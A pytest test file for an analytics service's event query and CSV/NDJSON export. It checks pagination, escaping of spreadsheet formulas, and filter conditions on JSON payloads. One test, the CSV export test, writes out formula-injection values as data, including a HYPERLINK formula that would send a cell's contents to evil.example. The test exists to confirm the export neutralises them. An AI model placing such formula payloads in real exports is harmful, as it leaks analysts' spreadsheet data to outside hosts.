"""Review of the event query and export: pages by time range, spreadsheet-safe CSV cells, conditions on arrays."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any
from urllib.parse import urlencode

import orjson
import pytest
from django.test import Client

from analytics.filters import parse_conditions
from streams.log import LogRecord, log_append_now
from streams.models import Stream
from tests.intake import assert_api_error

from .query_fixtures import BASE_TIME, EVENTS, analyst_of, append
from .test_export import EXPORT, _body

pytestmark = pytest.mark.django_db


@pytest.fixture
def analyst(stream: Stream) -> Client:
    return analyst_of(stream)


def _pages(client: Client, url: str, link: str) -> list[list[int]]:
    pages: list[list[int]] = []
    while url:
        body = client.get(url).json()
        pages.append([event["offset"] for event in body["results"]])
        url = body[link]
    return pages


@pytest.mark.parametrize("order", ["newest", "oldest"])
def test_pages_of_a_time_range_go_forward_and_back_without_gaps_or_repeats(analyst: Client, stream: Stream, order: str):
    records = append(stream, 60)
    low, high = BASE_TIME + timedelta(minutes=30), BASE_TIME + timedelta(minutes=200)
    want = [i for i, r in enumerate(records) if low <= r.event_time < high and r.type != "login"]
    if order == "newest":
        want.reverse()
    query = urlencode(
        {"from": low.isoformat(), "to": high.isoformat(), "type": "page_view,button_click,Order Completed"}
    )
    forward = _pages(analyst, f"{EVENTS}?{query}&order={order}&limit=3", "next")
    assert [offset for page in forward for offset in page] == want
    # From the last page back to the first: the same pages, in reverse.
    url = f"{EVENTS}?{query}&order={order}&limit=3"
    while (body := analyst.get(url).json())["next"]:
        url = body["next"]
    backward = _pages(analyst, url, "previous")
    assert backward == forward[::-1]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_go_out_as_text(analyst: Client, stream: Stream):
    # A browser tracker's publishable key lets anyone choose these ids; an analyst opens the export in a spreadsheet.
    hostile = LogRecord(
        event_id="=1+2",
        type="@SUM(A1)",
        event_time=BASE_TIME,
        received_at=BASE_TIME,
        user_id='=HYPERLINK("https://evil.example/?d="&A1,"open")',
        anonymous_id="+1-1",
        session_id="\t=cmd",
        payload={"note": "=not a cell of its own"},
    )
    plain = LogRecord(event_id="a=b", type="login", event_time=BASE_TIME, received_at=BASE_TIME, user_id="u-1")
    log_append_now(stream_id=stream.pk, records=[hostile, plain])
    rows = list(csv.DictReader(io.StringIO(_body(analyst.get(EXPORT)).decode())))
    assert [(row["event_id"], row["type"], row["user_id"], row["anonymous_id"], row["session_id"]) for row in rows] == [
        ("'=1+2", "'@SUM(A1)", "'" + str(hostile.user_id), "'+1-1", "'\t=cmd"),
        ("a=b", "login", "u-1", "", ""),
    ]
    # JSON cells start with "{": left as they are.
    assert rows[0]["payload"] == '{"note": "=not a cell of its own"}'
    # NDJSON, read by programs, gives the ids as sent.
    lines = _body(analyst.get(f"{EXPORT}?format=ndjson")).decode().splitlines()
    assert orjson.loads(lines[0])["event_id"] == "=1+2"


@pytest.mark.parametrize(
    ("prop", "value"),
    [
        ("payload.items.0.sku", "x"),
        ("payload.items.-1.sku", "y"),
        ("payload.items.01.sku", "y"),
        ("payload.items.1", '{"sku": "y"}'),
        ("payload.tags.0", "new"),
    ],
)
def test_a_condition_on_an_array_element_matches_in_python_as_the_query_does_in_sql(
    analyst: Client, stream: Stream, prop: str, value: str
):
    records = [
        LogRecord(
            event_id="cart",
            type="checkout",
            event_time=BASE_TIME,
            received_at=BASE_TIME,
            payload={"items": [{"sku": "x"}, {"sku": "y"}], "tags": ["new", "sale"]},
        ),
        LogRecord(
            event_id="other", type="checkout", event_time=BASE_TIME, received_at=BASE_TIME, payload={"items": []}
        ),
    ]
    log_append_now(stream_id=stream.pk, records=records)
    found = analyst.get(f"{EVENTS}?{urlencode({prop: value})}").json()["results"]
    assert [event["event_id"] for event in found] == ["cart"]
    # Alert rules evaluate the same condition in Python, on events before any query: the same answer.
    (condition,) = parse_conditions([{"property": prop, "value": value}])
    assert [r.event_id for r in records if condition.matches(r.payload)] == ["cart"]
    (unequal,) = parse_conditions([{"property": prop, "op": "ne", "values": [value]}])
    assert [r.event_id for r in records if unequal.matches(r.payload)] == ["other"]
    assert parse_conditions([{"property": "payload.items.2", "op": "exists"}])[0].matches(records[0].payload) is False
    assert parse_conditions([{"property": "payload.items.-3", "op": "missing"}])[0].matches(records[0].payload)


# Values whose text jsonb writes otherwise than Python's json: no negative zero, an object's keys by length
# then bytes, numbers inside without an exponent. The text an analyst writes for each, as the query reads it.
JSONB_TEXTS = {
    "zero": (-0.0, "0.0"),
    "object": ({"zz": 1, "a": "x\ty", "ab": None}, '{"a": "x\\ty", "ab": null, "zz": 1}'),
    "list": ([1.5e-7, {"é": True, "b": 2}], '[0.00000015, {"b": 2, "é": true}]'),
}


@pytest.mark.parametrize("name", list(JSONB_TEXTS))
def test_a_condition_matches_jsonb_text_in_python_as_the_query_does_in_sql(analyst: Client, stream: Stream, name: str):
    value, text = JSONB_TEXTS[name]
    records = [
        LogRecord(event_id="hit", type="paid", event_time=BASE_TIME, received_at=BASE_TIME, payload={"v": value}),
        LogRecord(event_id="miss", type="paid", event_time=BASE_TIME, received_at=BASE_TIME, payload={"v": "-"}),
    ]
    log_append_now(stream_id=stream.pk, records=records)
    found = analyst.get(f"{EVENTS}?{urlencode({'payload.v': text})}").json()["results"]
    assert [event["event_id"] for event in found] == ["hit"]
    (condition,) = parse_conditions([{"property": "payload.v", "value": text}])
    assert [r.event_id for r in records if condition.matches(r.payload)] == ["hit"]


def test_properties_named_as_people_name_them_can_be_filtered(analyst: Client, stream: Stream):
    # Keys with spaces and letters outside ASCII are common ("Product Name"); they were a 400.
    payloads: list[dict[str, Any]] = [
        {"Product Name": "Lamp", "prénom": "Zoé"},
        {"Product Name": "Desk", "prénom": "Zoé"},
        {"other": 1},
    ]
    records = [
        LogRecord(event_id=f"e{i}", type="checkout", event_time=BASE_TIME, received_at=BASE_TIME, payload=payload)
        for i, payload in enumerate(payloads)
    ]
    log_append_now(stream_id=stream.pk, records=records)

    def found(**params: str) -> list[str]:
        answer = analyst.get(f"{EVENTS}?{urlencode({**params, 'order': 'oldest'})}")
        assert answer.status_code == 200, answer.content
        return [event["event_id"] for event in answer.json()["results"]]

    assert found(**{"payload.Product Name": "Lamp"}) == ["e0"]
    assert found(**{"payload.Product Name!": "Lamp"}) == ["e1", "e2"]  # as every "!=": missing counts
    assert found(**{"payload.prénom": "Zoé"}) == ["e0", "e1"]
    assert parse_conditions([{"property": "payload.Product Name", "values": ["Desk"]}])[0].matches(records[1].payload)
    # A name still ends at a line break or another control character (it was read as payload.a).
    line_break = urlencode({"payload.a\n": "x"})
    assert_api_error(analyst.get(f"{EVENTS}?{line_break}"), 400, "invalid_filter")
